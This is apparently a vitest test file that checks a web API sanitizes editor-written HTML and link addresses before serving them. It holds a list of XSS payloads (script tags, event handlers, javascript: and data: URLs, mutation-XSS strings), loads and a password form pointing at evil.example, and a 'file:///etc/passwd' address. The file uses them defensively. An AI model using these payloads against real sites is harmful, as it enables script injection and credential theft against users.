import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { startServer, recordChangeAndRefresh, type Server } from '#tests/support/test-server.ts'

let server: Server
beforeAll(async () => {
  server = await startServer()
})
afterAll(() => server.close())

/** HTML that would run code, or lead elsewhere, if it were shown unsanitized. */
const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt/x>alert(1)</script>',
  '<script src=//evil.example></script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.example">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x"></object><embed src="x"><applet></applet><frame src="x"><base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example"><link rel=import href=//evil.example>',
  '<form action=//evil.example><input name=password><button formaction=//evil.example>x</button></form>',
  '<style>@import "//evil.example"</style><p style="background:url(//evil.example)">x</p>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]><?xml version="1.0"?>',
  '<img src="https://tracker.example/pixel.gif">',
  '<img src="/uploads/../v1/setting" onload=alert(1)>',
  '<p id="page-data" class="x" onclick="alert(1)">x</p>',
  '<a name="getElementById" id="body">x</a>',
]

const element = /<\/?([a-z][a-z0-9]*)\b([^>]*)>/gi
const tags = new Set(
  'p br h2 h3 h4 ul ol li strong b em i blockquote a img table thead tbody tr th td'.split(' '),
)
const attributes = new Set(['href', 'rel', 'target', 'title', 'src', 'alt', 'width', 'height'])

/** Everything in a text that a browser may interpret as more than text. */
function dangerousPartsIn(html: string): string[] {
  const dangerousParts: string[] = []
  for (const [whole, tag = '', written = ''] of html.matchAll(element)) {
    if (!tags.has(tag.toLowerCase())) dangerousParts.push(whole)
    for (const [, name = '', value = ''] of written.matchAll(/([^\s"'>/=]+)(?:\s*=\s*"([^"]*)")?/g)) {
      if (!attributes.has(name.toLowerCase())) dangerousParts.push(whole)
      if (name === 'href' && !/^(https?:\/\/|mailto:|\/(?!\/)|#|[\w-]*$)/.test(value))
        dangerousParts.push(whole)
      if (name === 'src' && !/^\/uploads\/(?!.*\.\.)/.test(value)) dangerousParts.push(whole)
    }
  }
  if (/<!|<\?/.test(html)) dangerousParts.push(html)
  return dangerousParts
}

/** Writes the HTML directly into the table, and returns the responses that contain it. */
const ways: Record<string, (html: string) => Promise<string>> = {
  'a description': (html) => throughMaterial({ description: html }, 'description'),
  instructions: (html) => throughMaterial({ product_instructions: html }, 'product_instructions'),
  'an introduction': (html) => throughArticle({ introtext: html }, 'introtext'),
  'an article': (html) => throughArticle({ body: html }, 'body'),
  'a page of text': async (html) => {
    await server.store.updateTable('text_page').set({ body: html }).where('slug', '=', 'om').execute()
    return (await response('/pages/om'))['body'] ?? ''
  },
  'the text of the order dialog': (html) => throughSetting('order_link_body', html),
  'the order message': (html) => throughSetting('order_message', html),
  'the text of the download dialog': (html) => throughSetting('download_body', html),
}

/** Lets the server know that tables were written to, so that no cached answer hides what is tested. */
async function recordChanges(): Promise<void> {
  await recordChangeAndRefresh(server, 'content')
  await recordChangeAndRefresh(server, 'material', 1)
}

/** The data of an answer that is made after the last write. */
async function response(path: string): Promise<Record<string, string>> {
  await recordChanges()
  const found = await server.app.inject(`/v1${path}`)
  expect(found.json()).toMatchObject({ status: 'OK' })
  return found.json<{ data: Record<string, string> }>().data
}

async function throughMaterial(
  written: { description?: string; product_instructions?: string },
  field: string,
) {
  const { store } = server
  await store.updateTable('material').set(written).where('id', '=', 1).execute()
  return (await response('/product/1'))[field] ?? ''
}

async function throughArticle(written: { introtext?: string; body?: string }, field: string) {
  const { store } = server
  await store.updateTable('article').set(written).where('id', '=', 1).execute()
  const { slug } = await store
    .selectFrom('article')
    .select('slug')
    .where('id', '=', 1)
    .executeTakeFirstOrThrow()
  return (await response(`/blogs/item/${slug}`))[field] ?? ''
}

async function throughSetting(name: string, html: string) {
  await server.store.updateTable('setting').set({ value: html }).where('name', '=', name).execute()
  return (await response('/setting'))[name] ?? ''
}

describe.each(Object.keys(ways))('%s that reached the database by another way', (way) => {
  test.each(attacks)('runs nothing: %s', async (attack) => {
    const shown = await ways[way]?.(`<p>Före</p>${attack}<p>Efter</p>`)
    expect(shown).toContain('Före')
    expect(dangerousPartsIn(shown ?? '')).toEqual([])
  })

  test('keeps what an editor may write, and opens other sites safely', async () => {
    const shown = await ways[way]?.(
      '<h2>A</h2><p>b <strong>c</strong> <a href="https://skola.example" target="_blank">d</a></p>',
    )
    expect(shown).toBe(
      '<h2>A</h2><p>b <strong>c</strong> <a href="https://skola.example" rel="noopener noreferrer" target="_blank">d</a></p>',
    )
  })

  test('shows markup in plain texts as text', async () => {
    expect(await ways[way]?.('<p>&#x3C;script&#x3E; 1 &lt; 2</p>')).toBe('<p>&lt;script&gt; 1 &lt; 2</p>')
  })
})

test.each([
  'javascript:alert(1)',
  'data:text/html,x',
  '//evil.example',
  '/\\evil.example',
  'file:///etc/passwd',
  ' javascript:alert(1)',
])('no address that is shown leads to %s', async (address) => {
  const { store, app } = server
  await store
    .updateTable('material')
    .set({ product_externalurl: address, video_embed_url: address, license_url: address, product_video: 1 })
    .where('id', '=', 1)
    .execute()
  await store.updateTable('menu_link').set({ url: address }).execute()
  await store.updateTable('text_link').set({ url: address }).execute()
  await store.updateTable('banner').set({ link_url: address }).execute()
  await recordChanges()
  for (const path of ['/product/1', '/menu', '/menu/footer', '/text-link', '/banner', '/catalogue']) {
    expect((await app.inject(`/v1${path}`)).body).not.toContain(JSON.stringify(address))
  }
})

test('a film address of another site is no film', async () => {
  const { store } = server
  const shown = async (address: string) => {
    await store.updateTable('material').set({ video_embed_url: address }).where('id', '=', 1).execute()
    return (await response('/product/1'))['video_embed_url']
  }
  expect(await shown('https://evil.example/embed/1')).toBe('')
  expect(await shown('https://www.youtube.com.evil.example/embed/1')).toBe('')
  expect(await shown('http://vimeo.com/123456')).toBe('')
  expect(await shown('https://vimeo.com/123456')).toBe('https://vimeo.com/123456')
  expect(await shown('/uploads/product/file/film.0123456789.mp4')).toBe(
    '/uploads/product/file/film.0123456789.mp4',
  )
})
